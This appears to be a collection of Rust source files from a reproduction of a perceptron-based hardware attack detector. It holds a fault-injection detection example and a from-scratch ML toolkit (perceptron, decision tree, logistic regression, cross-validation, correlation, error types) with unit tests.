    let mut core = Core::new(CoreConfig::default(), suspect.program.clone());
    core.set_noise_seed(workload_seed(&suspect.name));
    core.run_with_sink(300_000, 10_000, &mut faulted)
        .expect("positive interval");
    let log = faulted.log().clone();
    let monitor = faulted.into_inner();
    println!(
        "injected: {} component dropouts, {} corrupted values over {} intervals",
        log.components_dropped, log.values_corrupted, log.intervals_forwarded
    );
    println!(
        "monitor saw {} degraded window(s) out of {}; every confidence stayed finite",
        monitor.degraded_intervals(),
        monitor.verdicts().len()
    );
    match monitor.first_alarm() {
        Some(v) => println!(
            "still detected: first alarm at {} insts (confidence {:.3})",
            v.at_inst, v.confidence
        ),
        None => println!("attack NOT detected under faults (degradation too severe)"),
    }
}
