//! A from-scratch machine-learning toolkit for the PerSpectron
//! reproduction.
//!
//! Implements every model the paper compares (Table IV) — perceptron,
//! logistic regression, CART decision tree, K-nearest neighbors, a
//! one-hidden-layer neural network and a majority-class baseline — plus the
//! evaluation machinery: accuracy/precision/recall/F1, ROC curves with AUC,
//! Pearson correlation, and stratified / group-held-out cross-validation.
//!
//! # Example
//!
//! ```
//! use mlkit::{Classifier, Perceptron};
//!
//! let x = vec![vec![0.0, 1.0], vec![1.0, 0.0], vec![0.0, 0.9], vec![0.9, 0.1]];
//! let y = vec![1, -1, 1, -1];
//! let mut p = Perceptron::new(2);
//! p.fit(&x, &y);
//! assert_eq!(p.predict(&[0.1, 0.95]), 1);
//! ```

#![warn(missing_docs)]

pub mod corr;
pub mod cv;
pub mod error;
pub mod knn;
pub mod logreg;
pub mod metrics;
pub mod mlp;
pub mod packed;
pub mod perceptron;
pub mod tree;

pub use corr::{correlation_matrix, pearson};
pub use cv::{stratified_kfold, GroupSplit};
pub use error::{validate_training_set, MlError};
pub use knn::Knn;
pub use logreg::LogisticRegression;
pub use metrics::{auc, confusion, roc_curve, Confusion, RocPoint};
pub use mlp::Mlp;
pub use packed::{BitRow, PackedPerceptron, PackedRows};
pub use perceptron::Perceptron;
pub use tree::DecisionTree;

/// A binary classifier over dense feature rows with ±1 labels.
pub trait Classifier {
    /// Trains on feature rows `x` with labels `y` (+1 malicious, −1 benign).
    ///
    /// # Panics
    ///
    /// Implementations panic if `x` and `y` lengths differ or `x` is empty.
    /// Use [`Classifier::try_fit`] to get the same invariants as a typed
    /// [`MlError`] instead.
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]);

    /// Fallible training: validates the training set first and returns a
    /// typed [`MlError`] instead of panicking on a malformed one.
    ///
    /// # Errors
    ///
    /// Returns the first violated training-set invariant (length
    /// mismatch, empty set). Width checks stay with the individual
    /// models, whose expected widths differ.
    fn try_fit(&mut self, x: &[Vec<f64>], y: &[i8]) -> Result<(), MlError> {
        validate_training_set(x, y, None)?;
        self.fit(x, y);
        Ok(())
    }

    /// Raw decision score for one row (≥ 0 ⇒ class +1).
    fn score(&self, row: &[f64]) -> f64;

    /// Predicted label for one row.
    fn predict(&self, row: &[f64]) -> i8 {
        if self.score(row) >= 0.0 {
            1
        } else {
            -1
        }
    }

    /// Predicted labels for many rows.
    fn predict_all(&self, x: &[Vec<f64>]) -> Vec<i8> {
        x.iter().map(|r| self.predict(r)).collect()
    }
}

/// Always predicts the majority class of the training set (the paper's
/// "majority labeling" baseline, 74.4%).
#[derive(Debug, Clone, Default)]
pub struct Majority {
    vote: f64,
}

impl Majority {
    /// Creates an untrained majority classifier.
    pub fn new() -> Self {
        Self::default()
    }
}

impl Classifier for Majority {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, None).unwrap_or_else(|e| panic!("{e}"));
        let pos = y.iter().filter(|&&l| l > 0).count();
        self.vote = if pos * 2 >= y.len() { 1.0 } else { -1.0 };
    }

    fn score(&self, _row: &[f64]) -> f64 {
        self.vote
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn majority_predicts_dominant_class() {
        let x = vec![vec![0.0]; 5];
        let y = vec![-1, -1, -1, 1, 1];
        let mut m = Majority::new();
        m.fit(&x, &y);
        assert_eq!(m.predict(&[123.0]), -1);
    }

    #[test]
    #[should_panic(expected = "empty training set")]
    fn majority_rejects_empty() {
        Majority::new().fit(&[], &[]);
    }
}
