//! The single-layer perceptron — the paper's detector model.

use crate::error::{validate_training_set, MlError};
use crate::Classifier;

/// A single-layer perceptron with the classic Rosenblatt update rule
/// `w ← w + μ·(d − y)·x`, trained for up to 1000 epochs or until the
/// training error drops below 0.04 (the paper trains "for 1000 epochs, or
/// until the training error falls below 0.4" — we keep both knobs
/// configurable and default to the stricter threshold).
///
/// # Example
///
/// ```
/// use mlkit::{Classifier, Perceptron};
/// let x = vec![vec![1.0, 0.0], vec![0.0, 1.0]];
/// let y = vec![-1, 1];
/// let mut p = Perceptron::new(2);
/// p.fit(&x, &y);
/// assert_eq!(p.predict(&[0.0, 1.0]), 1);
/// ```
#[derive(Debug, Clone)]
pub struct Perceptron {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate μ.
    pub learning_rate: f64,
    /// Maximum training epochs.
    pub max_epochs: usize,
    /// Stop early when the epoch error rate falls below this.
    pub target_error: f64,
    /// Margin: update on samples with `y·score <= margin`, not just on
    /// mispredictions. Zero gives the classic Rosenblatt rule; a positive
    /// margin makes the learned boundary margin-aware (closer to the
    /// gradient-trained single-layer networks of the FANN library the
    /// paper used).
    pub margin: f64,
    /// Update-weight multiplier for positive (malicious) samples:
    /// values above 1 trade false positives for recall, fitting a
    /// first-line-of-defense detector.
    pub positive_weight: f64,
}

impl Perceptron {
    /// Creates a zero-weight perceptron over `n_features` inputs.
    pub fn new(n_features: usize) -> Self {
        Self {
            weights: vec![0.0; n_features],
            bias: 0.0,
            learning_rate: 0.05,
            max_epochs: 1000,
            target_error: 0.04,
            margin: 0.0,
            positive_weight: 1.0,
        }
    }

    /// The learned weights (one per feature).
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The learned bias.
    pub fn bias(&self) -> f64 {
        self.bias
    }

    /// Overwrites the weights (used to load vendor-distributed weight
    /// patches, §IV-G1 of the paper).
    ///
    /// # Errors
    ///
    /// Returns [`MlError::WeightWidthMismatch`] when the patch's weight
    /// count differs from the model's feature count — a patch built for
    /// a different schema must be rejected, not loaded.
    pub fn set_weights(&mut self, weights: Vec<f64>, bias: f64) -> Result<(), MlError> {
        if weights.len() != self.weights.len() {
            return Err(MlError::WeightWidthMismatch {
                expected: self.weights.len(),
                got: weights.len(),
            });
        }
        self.weights = weights;
        self.bias = bias;
        Ok(())
    }
}

impl Classifier for Perceptron {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, Some(self.weights.len())).unwrap_or_else(|e| panic!("{e}"));
        // Pocket variant: the plain perceptron rule oscillates on data that
        // is not cleanly separable, so keep the best epoch's weights.
        let mut best = (self.weights.clone(), self.bias, usize::MAX);
        for _ in 0..self.max_epochs {
            let mut errors = 0usize;
            for (row, &label) in x.iter().zip(y) {
                let score = self.score(row);
                let pred = if score >= 0.0 { 1i8 } else { -1 };
                if pred != label {
                    errors += 1;
                }
                if (label as f64) * score <= self.margin {
                    let class_w = if label > 0 { self.positive_weight } else { 1.0 };
                    let delta = self.learning_rate * 2.0 * label as f64 * class_w;
                    for (w, &v) in self.weights.iter_mut().zip(row) {
                        *w += delta * v;
                    }
                    self.bias += delta;
                }
            }
            // Evaluate the frozen epoch-end weights for the pocket (the
            // online error count above reflects mid-epoch states).
            let frozen_errors = x
                .iter()
                .zip(y)
                .filter(|(row, &label)| {
                    let pred = if self.score(row) >= 0.0 { 1i8 } else { -1 };
                    pred != label
                })
                .count();
            if frozen_errors < best.2 {
                best = (self.weights.clone(), self.bias, frozen_errors);
            }
            if errors == 0 || (frozen_errors as f64) / (x.len() as f64) < self.target_error {
                break;
            }
        }
        if best.2 != usize::MAX {
            self.weights = best.0;
            self.bias = best.1;
        }
    }

    fn score(&self, row: &[f64]) -> f64 {
        debug_assert_eq!(row.len(), self.weights.len());
        self.weights
            .iter()
            .zip(row)
            .map(|(w, v)| w * v)
            .sum::<f64>()
            + self.bias
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn learns_linearly_separable_data() {
        // y = +1 iff x0 + x1 > 1.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..20 {
            for j in 0..20 {
                let (a, b) = (i as f64 / 10.0, j as f64 / 10.0);
                if (a + b - 1.0).abs() < 0.15 {
                    continue; // keep a margin so convergence is guaranteed
                }
                x.push(vec![a, b]);
                y.push(if a + b > 1.0 { 1 } else { -1 });
            }
        }
        let mut p = Perceptron::new(2);
        p.fit(&x, &y);
        let acc =
            x.iter().zip(&y).filter(|(r, &l)| p.predict(r) == l).count() as f64 / x.len() as f64;
        assert!(acc > 0.95, "perceptron should separate, got {acc}");
    }

    #[test]
    fn weights_carry_sign_information() {
        // Feature 0 positively correlated with +1, feature 1 negatively.
        let x = vec![
            vec![1.0, 0.0],
            vec![0.9, 0.1],
            vec![0.0, 1.0],
            vec![0.1, 0.9],
        ];
        let y = vec![1, 1, -1, -1];
        let mut p = Perceptron::new(2);
        p.fit(&x, &y);
        assert!(p.weights()[0] > p.weights()[1]);
    }

    #[test]
    fn set_weights_round_trips() {
        let mut p = Perceptron::new(3);
        p.set_weights(vec![1.0, -2.0, 0.5], 0.25).unwrap();
        assert_eq!(p.score(&[1.0, 1.0, 2.0]), 1.0 - 2.0 + 1.0 + 0.25);
    }

    #[test]
    fn set_weights_rejects_wrong_width_with_a_typed_error() {
        let mut p = Perceptron::new(3);
        let err = p.set_weights(vec![1.0], 0.0).unwrap_err();
        assert_eq!(
            err,
            MlError::WeightWidthMismatch {
                expected: 3,
                got: 1
            }
        );
        // The model is untouched after a rejected patch.
        assert_eq!(p.weights(), &[0.0, 0.0, 0.0]);
    }

    #[test]
    #[should_panic(expected = "feature width mismatch")]
    fn fit_rejects_wrong_width() {
        let mut p = Perceptron::new(3);
        p.fit(&[vec![1.0]], &[1]);
    }
}
