//! CART decision tree (Gini impurity, binary splits).

use crate::error::validate_training_set;
use crate::Classifier;

#[derive(Debug, Clone)]
enum Node {
    Leaf {
        label: i8,
    },
    Split {
        feature: usize,
        threshold: f64,
        left: Box<Node>,
        right: Box<Node>,
    },
}

/// A CART decision tree with Gini-impurity splits.
///
/// The paper's DT-CART baseline: cheap to implement in hardware but prone
/// to hard decisions that generalize poorly to unseen attacks.
///
/// # Example
///
/// ```
/// use mlkit::{Classifier, DecisionTree};
/// let x = vec![vec![0.0], vec![1.0], vec![0.2], vec![0.8]];
/// let y = vec![-1, 1, -1, 1];
/// let mut t = DecisionTree::new(4, 1);
/// t.fit(&x, &y);
/// assert_eq!(t.predict(&[0.9]), 1);
/// ```
#[derive(Debug, Clone)]
pub struct DecisionTree {
    root: Option<Node>,
    /// Maximum depth.
    pub max_depth: usize,
    /// Minimum samples required to split.
    pub min_samples: usize,
}

impl DecisionTree {
    /// Creates a tree with the given depth and split-size limits.
    pub fn new(max_depth: usize, min_samples: usize) -> Self {
        Self {
            root: None,
            max_depth,
            min_samples,
        }
    }

    /// Number of decision nodes (for hardware-cost discussions).
    pub fn node_count(&self) -> usize {
        fn count(n: &Node) -> usize {
            match n {
                Node::Leaf { .. } => 1,
                Node::Split { left, right, .. } => 1 + count(left) + count(right),
            }
        }
        self.root.as_ref().map_or(0, count)
    }

    fn gini(pos: usize, total: usize) -> f64 {
        if total == 0 {
            return 0.0;
        }
        let p = pos as f64 / total as f64;
        2.0 * p * (1.0 - p)
    }

    fn majority(y: &[i8], idx: &[usize]) -> i8 {
        let pos = idx.iter().filter(|&&i| y[i] > 0).count();
        if pos * 2 >= idx.len() {
            1
        } else {
            -1
        }
    }

    fn build(&self, x: &[Vec<f64>], y: &[i8], idx: &[usize], depth: usize) -> Node {
        let pos = idx.iter().filter(|&&i| y[i] > 0).count();
        if depth >= self.max_depth || idx.len() < self.min_samples || pos == 0 || pos == idx.len() {
            return Node::Leaf {
                label: Self::majority(y, idx),
            };
        }

        let n_features = x[0].len();
        let mut best: Option<(usize, f64, f64)> = None; // (feature, threshold, gini)
        #[allow(clippy::needless_range_loop)] // `f` indexes columns, not `x` rows
        for f in 0..n_features {
            // Candidate thresholds: midpoints of sorted unique values
            // (subsampled for speed on wide data).
            let mut vals: Vec<f64> = idx.iter().map(|&i| x[i][f]).collect();
            vals.sort_by(|a, b| a.partial_cmp(b).expect("no NaN features"));
            vals.dedup();
            if vals.len() < 2 {
                continue;
            }
            let step = (vals.len() / 16).max(1);
            for w in vals.windows(2).step_by(step) {
                let t = (w[0] + w[1]) / 2.0;
                let (mut lp, mut ln, mut rp, mut rn) = (0usize, 0usize, 0usize, 0usize);
                for &i in idx {
                    let is_pos = y[i] > 0;
                    if x[i][f] <= t {
                        if is_pos {
                            lp += 1
                        } else {
                            ln += 1
                        }
                    } else if is_pos {
                        rp += 1
                    } else {
                        rn += 1
                    }
                }
                let (l, r) = (lp + ln, rp + rn);
                if l == 0 || r == 0 {
                    continue;
                }
                let g = (l as f64 * Self::gini(lp, l) + r as f64 * Self::gini(rp, r))
                    / idx.len() as f64;
                if best.is_none_or(|(_, _, bg)| g < bg) {
                    best = Some((f, t, g));
                }
            }
        }

        let Some((feature, threshold, _)) = best else {
            return Node::Leaf {
                label: Self::majority(y, idx),
            };
        };
        let (li, ri): (Vec<usize>, Vec<usize>) =
            idx.iter().partition(|&&i| x[i][feature] <= threshold);
        if li.is_empty() || ri.is_empty() {
            return Node::Leaf {
                label: Self::majority(y, idx),
            };
        }
        Node::Split {
            feature,
            threshold,
            left: Box::new(self.build(x, y, &li, depth + 1)),
            right: Box::new(self.build(x, y, &ri, depth + 1)),
        }
    }
}

impl Classifier for DecisionTree {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, None).unwrap_or_else(|e| panic!("{e}"));
        let idx: Vec<usize> = (0..x.len()).collect();
        self.root = Some(self.build(x, y, &idx, 0));
    }

    fn score(&self, row: &[f64]) -> f64 {
        let mut node = self.root.as_ref().expect("fit before predict");
        loop {
            match node {
                Node::Leaf { label } => return *label as f64,
                Node::Split {
                    feature,
                    threshold,
                    left,
                    right,
                } => {
                    node = if row[*feature] <= *threshold {
                        left
                    } else {
                        right
                    };
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_on_the_informative_feature() {
        // Feature 1 is informative, feature 0 is noise.
        let x: Vec<Vec<f64>> = (0..60)
            .map(|i| vec![(i % 7) as f64, if i < 30 { 0.1 } else { 0.9 }])
            .collect();
        let y: Vec<i8> = (0..60).map(|i| if i < 30 { -1 } else { 1 }).collect();
        let mut t = DecisionTree::new(3, 2);
        t.fit(&x, &y);
        assert_eq!(t.predict(&[3.0, 0.05]), -1);
        assert_eq!(t.predict(&[3.0, 0.95]), 1);
    }

    #[test]
    fn fits_xor_with_enough_depth() {
        let x = vec![
            vec![0.0, 0.0],
            vec![0.0, 1.0],
            vec![1.0, 0.0],
            vec![1.0, 1.0],
        ];
        let y = vec![-1, 1, 1, -1];
        let mut t = DecisionTree::new(4, 1);
        t.fit(&x, &y);
        for (r, &l) in x.iter().zip(&y) {
            assert_eq!(t.predict(r), l);
        }
        assert!(t.node_count() >= 5);
    }

    #[test]
    fn pure_node_becomes_leaf() {
        let x = vec![vec![0.0], vec![1.0], vec![2.0]];
        let y = vec![1, 1, 1];
        let mut t = DecisionTree::new(5, 1);
        t.fit(&x, &y);
        assert_eq!(t.node_count(), 1);
    }
}
