//! Cross-validation splitters: stratified K-fold and group-held-out splits.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

/// `(train_x, train_y, test_x, test_y)` rows materialized by
/// [`GroupSplit::apply`].
pub type SplitData = (Vec<Vec<f64>>, Vec<i8>, Vec<Vec<f64>>, Vec<i8>);

/// Stratified K-fold: partitions sample indices into `k` folds with class
/// proportions roughly equal in each fold ("3-fold stratified splitting
/// with randomization" in the paper's §V).
///
/// Returns the test-index set of each fold.
///
/// # Panics
///
/// Panics if `k == 0` or `k > labels.len()`.
pub fn stratified_kfold(labels: &[i8], k: usize, seed: u64) -> Vec<Vec<usize>> {
    assert!(k > 0, "k must be positive");
    assert!(k <= labels.len(), "more folds than samples");
    let mut rng = StdRng::seed_from_u64(seed);
    let mut pos: Vec<usize> = (0..labels.len()).filter(|&i| labels[i] > 0).collect();
    let mut neg: Vec<usize> = (0..labels.len()).filter(|&i| labels[i] <= 0).collect();
    pos.shuffle(&mut rng);
    neg.shuffle(&mut rng);
    let mut folds = vec![Vec::new(); k];
    for (i, idx) in pos.into_iter().enumerate() {
        folds[i % k].push(idx);
    }
    for (i, idx) in neg.into_iter().enumerate() {
        folds[i % k].push(idx);
    }
    folds
}

/// A train/test split defined by held-out *groups* (the paper's Table III
/// folds, where whole attack families are excluded from training).
#[derive(Debug, Clone)]
pub struct GroupSplit {
    /// Indices of training samples.
    pub train: Vec<usize>,
    /// Indices of test samples.
    pub test: Vec<usize>,
}

impl GroupSplit {
    /// Splits samples by their group id: samples whose group is in
    /// `held_out` become the test set, the rest the training set.
    pub fn by_held_out_groups(groups: &[usize], held_out: &[usize]) -> Self {
        let mut train = Vec::new();
        let mut test = Vec::new();
        for (i, g) in groups.iter().enumerate() {
            if held_out.contains(g) {
                test.push(i);
            } else {
                train.push(i);
            }
        }
        Self { train, test }
    }

    /// Materializes the train/test feature rows and labels.
    pub fn apply<'a>(&self, x: &'a [Vec<f64>], y: &'a [i8]) -> SplitData {
        let take = |idx: &[usize]| -> (Vec<Vec<f64>>, Vec<i8>) {
            (
                idx.iter().map(|&i| x[i].clone()).collect(),
                idx.iter().map(|&i| y[i]).collect(),
            )
        };
        let (xt, yt) = take(&self.train);
        let (xs, ys) = take(&self.test);
        (xt, yt, xs, ys)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folds_partition_all_samples() {
        let labels: Vec<i8> = (0..30).map(|i| if i % 3 == 0 { 1 } else { -1 }).collect();
        let folds = stratified_kfold(&labels, 3, 42);
        let mut all: Vec<usize> = folds.iter().flatten().copied().collect();
        all.sort();
        assert_eq!(all, (0..30).collect::<Vec<_>>());
    }

    #[test]
    fn folds_are_stratified() {
        let labels: Vec<i8> = (0..90).map(|i| if i < 30 { 1 } else { -1 }).collect();
        let folds = stratified_kfold(&labels, 3, 7);
        for f in &folds {
            let pos = f.iter().filter(|&&i| labels[i] > 0).count();
            assert_eq!(pos, 10, "each fold gets a third of the positives");
        }
    }

    #[test]
    fn seed_determines_split() {
        let labels = vec![1i8; 10];
        assert_eq!(
            stratified_kfold(&labels, 2, 5),
            stratified_kfold(&labels, 2, 5)
        );
    }

    #[test]
    fn group_split_holds_out_whole_groups() {
        let groups = vec![0, 0, 1, 1, 2, 2];
        let s = GroupSplit::by_held_out_groups(&groups, &[1]);
        assert_eq!(s.test, vec![2, 3]);
        assert_eq!(s.train, vec![0, 1, 4, 5]);
    }

    #[test]
    fn apply_materializes_rows() {
        let x = vec![vec![0.0], vec![1.0], vec![2.0]];
        let y = vec![1, -1, 1];
        let s = GroupSplit::by_held_out_groups(&[0, 1, 0], &[1]);
        let (xt, yt, xs, ys) = s.apply(&x, &y);
        assert_eq!(xt, vec![vec![0.0], vec![2.0]]);
        assert_eq!(yt, vec![1, 1]);
        assert_eq!(xs, vec![vec![1.0]]);
        assert_eq!(ys, vec![-1]);
    }
}
