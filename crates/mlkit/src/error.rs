//! Typed errors for the ML toolkit.
//!
//! Everything a caller can get wrong from the outside — a weight patch
//! whose width does not match the model, a training set with mismatched
//! or empty rows, a degenerate hyper-parameter — surfaces as an
//! [`MlError`] instead of a panic, mirroring the simulator's `SimError`
//! convention. The panicking `fit` entry points remain (the `Classifier`
//! trait predates the error layer and the training-set invariants are
//! programmer errors in every caller we have), but they now funnel
//! through the same typed validation, so the messages are uniform and the
//! fallible [`Classifier::try_fit`](crate::Classifier::try_fit) wrapper
//! can report instead of aborting.

/// An error constructing, configuring or training a model.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum MlError {
    /// A weight vector's length does not match the model's feature count
    /// (e.g. a vendor weight patch built for a different schema).
    WeightWidthMismatch {
        /// Features the model was built for.
        expected: usize,
        /// Weights actually supplied.
        got: usize,
    },
    /// `x` and `y` of a training set have different lengths.
    LengthMismatch {
        /// Number of feature rows.
        rows: usize,
        /// Number of labels.
        labels: usize,
    },
    /// The training set has no samples.
    EmptyTrainingSet,
    /// A training row's width does not match the model's feature count.
    FeatureWidthMismatch {
        /// Features the model was built for.
        expected: usize,
        /// Width of the offending row.
        got: usize,
    },
    /// A hyper-parameter has a value the model cannot operate with.
    InvalidParam {
        /// The offending parameter.
        param: &'static str,
        /// Why the value is unusable.
        reason: &'static str,
    },
}

impl std::fmt::Display for MlError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            MlError::WeightWidthMismatch { expected, got } => {
                write!(
                    f,
                    "weight count mismatch: model has {expected} features, got {got} weights"
                )
            }
            MlError::LengthMismatch { rows, labels } => {
                write!(f, "x/y length mismatch: {rows} rows vs {labels} labels")
            }
            MlError::EmptyTrainingSet => write!(f, "empty training set"),
            MlError::FeatureWidthMismatch { expected, got } => {
                write!(
                    f,
                    "feature width mismatch: model has {expected} features, rows have {got}"
                )
            }
            MlError::InvalidParam { param, reason } => {
                write!(f, "invalid parameter {param}: {reason}")
            }
        }
    }
}

impl std::error::Error for MlError {}

/// Validates a training set against an optional expected feature width.
///
/// The single source of truth for the invariants every `fit` enforces:
/// equal `x`/`y` lengths, at least one sample, and (when the model has a
/// fixed width) rows matching that width.
pub fn validate_training_set(
    x: &[Vec<f64>],
    y: &[i8],
    expected_width: Option<usize>,
) -> Result<(), MlError> {
    if x.len() != y.len() {
        return Err(MlError::LengthMismatch {
            rows: x.len(),
            labels: y.len(),
        });
    }
    if x.is_empty() {
        return Err(MlError::EmptyTrainingSet);
    }
    if let Some(expected) = expected_width {
        let got = x[0].len();
        if got != expected {
            return Err(MlError::FeatureWidthMismatch { expected, got });
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_informative() {
        let e = MlError::WeightWidthMismatch {
            expected: 106,
            got: 3,
        };
        assert!(e.to_string().contains("106"));
        assert!(e.to_string().contains("weight count mismatch"));
        let e = MlError::InvalidParam {
            param: "k",
            reason: "must be positive",
        };
        assert!(e.to_string().contains('k'));
        assert!(e.to_string().contains("must be positive"));
    }

    #[test]
    fn validation_catches_each_invariant() {
        assert_eq!(
            validate_training_set(&[vec![1.0]], &[], None),
            Err(MlError::LengthMismatch { rows: 1, labels: 0 })
        );
        assert_eq!(
            validate_training_set(&[], &[], None),
            Err(MlError::EmptyTrainingSet)
        );
        assert_eq!(
            validate_training_set(&[vec![1.0]], &[1], Some(2)),
            Err(MlError::FeatureWidthMismatch {
                expected: 2,
                got: 1
            })
        );
        assert_eq!(validate_training_set(&[vec![1.0]], &[1], Some(1)), Ok(()));
    }
}
