//! Pearson correlation and correlation matrices — the engine of the
//! paper's feature-grouping step.

/// Pearson correlation coefficient between two equal-length series.
///
/// Returns 0.0 when either series is constant (no linear relationship is
/// measurable), matching the convention used for dead counters.
///
/// # Panics
///
/// Panics if the series differ in length.
pub fn pearson(x: &[f64], y: &[f64]) -> f64 {
    assert_eq!(x.len(), y.len(), "series length mismatch");
    let n = x.len() as f64;
    if x.is_empty() {
        return 0.0;
    }
    let mx = x.iter().sum::<f64>() / n;
    let my = y.iter().sum::<f64>() / n;
    let mut cov = 0.0;
    let mut vx = 0.0;
    let mut vy = 0.0;
    for (a, b) in x.iter().zip(y) {
        let (da, db) = (a - mx, b - my);
        cov += da * db;
        vx += da * da;
        vy += db * db;
    }
    if vx == 0.0 || vy == 0.0 {
        return 0.0;
    }
    cov / (vx * vy).sqrt()
}

/// Full symmetric correlation matrix over feature columns.
///
/// `columns[i]` is the time series of feature `i`; the result is row-major
/// with `result[i][j] = pearson(columns[i], columns[j])`.
pub fn correlation_matrix(columns: &[Vec<f64>]) -> Vec<Vec<f64>> {
    let k = columns.len();
    let mut m = vec![vec![0.0; k]; k];
    // Precompute centered columns and norms to avoid re-deriving means.
    let stats: Vec<(Vec<f64>, f64)> = columns
        .iter()
        .map(|c| {
            let n = c.len() as f64;
            let mean = if c.is_empty() {
                0.0
            } else {
                c.iter().sum::<f64>() / n
            };
            let centered: Vec<f64> = c.iter().map(|v| v - mean).collect();
            let norm = centered.iter().map(|v| v * v).sum::<f64>().sqrt();
            (centered, norm)
        })
        .collect();
    for i in 0..k {
        m[i][i] = 1.0;
        for j in (i + 1)..k {
            let (ci, ni) = &stats[i];
            let (cj, nj) = &stats[j];
            let r = if *ni == 0.0 || *nj == 0.0 {
                0.0
            } else {
                ci.iter().zip(cj).map(|(a, b)| a * b).sum::<f64>() / (ni * nj)
            };
            m[i][j] = r;
            m[j][i] = r;
        }
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_series_correlate_perfectly() {
        let x = vec![1.0, 2.0, 3.0, 4.0];
        assert!((pearson(&x, &x) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn negated_series_anticorrelate() {
        let x = vec![1.0, 2.0, 3.0];
        let y = vec![-1.0, -2.0, -3.0];
        assert!((pearson(&x, &y) + 1.0).abs() < 1e-12);
    }

    #[test]
    fn constant_series_yield_zero() {
        let x = vec![5.0, 5.0, 5.0];
        let y = vec![1.0, 2.0, 3.0];
        assert_eq!(pearson(&x, &y), 0.0);
    }

    #[test]
    fn affine_transform_preserves_correlation() {
        let x = vec![1.0, 2.0, 3.0, 4.0, 5.0];
        let y: Vec<f64> = x.iter().map(|v| 3.0 * v + 7.0).collect();
        assert!((pearson(&x, &y) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn matrix_is_symmetric_with_unit_diagonal() {
        let cols = vec![
            vec![1.0, 2.0, 3.0],
            vec![3.0, 2.0, 1.0],
            vec![1.0, 0.0, 1.0],
        ];
        let m = correlation_matrix(&cols);
        for (i, row) in m.iter().enumerate() {
            assert!((row[i] - 1.0).abs() < 1e-12);
            for (j, v) in row.iter().enumerate() {
                assert!((v - m[j][i]).abs() < 1e-12);
            }
        }
        assert!((m[0][1] + 1.0).abs() < 1e-12);
    }

    #[test]
    fn matrix_matches_pairwise_pearson() {
        let cols = vec![vec![1.0, 4.0, 2.0, 8.0], vec![0.5, 2.0, 1.5, 3.0]];
        let m = correlation_matrix(&cols);
        assert!((m[0][1] - pearson(&cols[0], &cols[1])).abs() < 1e-12);
    }
}
