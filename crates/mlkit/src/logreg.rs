//! Logistic regression trained by stochastic gradient descent.

use crate::error::validate_training_set;
use crate::Classifier;

/// L2-regularized logistic regression (SGD).
///
/// # Example
///
/// ```
/// use mlkit::{Classifier, LogisticRegression};
/// let x = vec![vec![0.0], vec![1.0], vec![0.1], vec![0.9]];
/// let y = vec![-1, 1, -1, 1];
/// let mut m = LogisticRegression::new(1);
/// m.fit(&x, &y);
/// assert_eq!(m.predict(&[0.95]), 1);
/// ```
#[derive(Debug, Clone)]
pub struct LogisticRegression {
    weights: Vec<f64>,
    bias: f64,
    /// SGD step size.
    pub learning_rate: f64,
    /// Number of passes over the data.
    pub epochs: usize,
    /// L2 penalty.
    pub l2: f64,
}

impl LogisticRegression {
    /// Creates an untrained model over `n_features` inputs.
    pub fn new(n_features: usize) -> Self {
        Self {
            weights: vec![0.0; n_features],
            bias: 0.0,
            learning_rate: 0.1,
            epochs: 200,
            l2: 1e-4,
        }
    }

    /// The learned weights.
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// Predicted probability of the +1 class.
    pub fn probability(&self, row: &[f64]) -> f64 {
        1.0 / (1.0 + (-self.score(row)).exp())
    }
}

impl Classifier for LogisticRegression {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, Some(self.weights.len())).unwrap_or_else(|e| panic!("{e}"));
        for _ in 0..self.epochs {
            for (row, &label) in x.iter().zip(y) {
                let target = if label > 0 { 1.0 } else { 0.0 };
                let p = self.probability(row);
                let err = target - p;
                for (w, &v) in self.weights.iter_mut().zip(row) {
                    *w += self.learning_rate * (err * v - self.l2 * *w);
                }
                self.bias += self.learning_rate * err;
            }
        }
    }

    fn score(&self, row: &[f64]) -> f64 {
        debug_assert_eq!(row.len(), self.weights.len());
        self.weights
            .iter()
            .zip(row)
            .map(|(w, v)| w * v)
            .sum::<f64>()
            + self.bias
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probability_is_calibrated_monotonic() {
        let x: Vec<Vec<f64>> = (0..40).map(|i| vec![i as f64 / 40.0]).collect();
        let y: Vec<i8> = (0..40).map(|i| if i >= 20 { 1 } else { -1 }).collect();
        let mut m = LogisticRegression::new(1);
        m.fit(&x, &y);
        assert!(m.probability(&[0.0]) < 0.5);
        assert!(m.probability(&[1.0]) > 0.5);
        assert!(m.probability(&[1.0]) > m.probability(&[0.6]));
    }

    #[test]
    fn l2_keeps_weights_bounded() {
        let x = vec![vec![1.0]; 100];
        let y = vec![1; 100];
        let mut m = LogisticRegression::new(1);
        m.fit(&x, &y);
        assert!(m.weights()[0].abs() < 100.0);
    }
}
