//! K-nearest neighbors.

use crate::error::{validate_training_set, MlError};
use crate::Classifier;

/// K-nearest-neighbor classifier (Euclidean distance).
///
/// The paper's best `k` is 3; KNN scores well but is "not suitable for
/// implementation in hardware due to its high overhead and classification
/// latency" — which the hardware-cost model in the core crate quantifies.
///
/// # Example
///
/// ```
/// use mlkit::{Classifier, Knn};
/// let x = vec![vec![0.0], vec![0.1], vec![1.0], vec![0.9]];
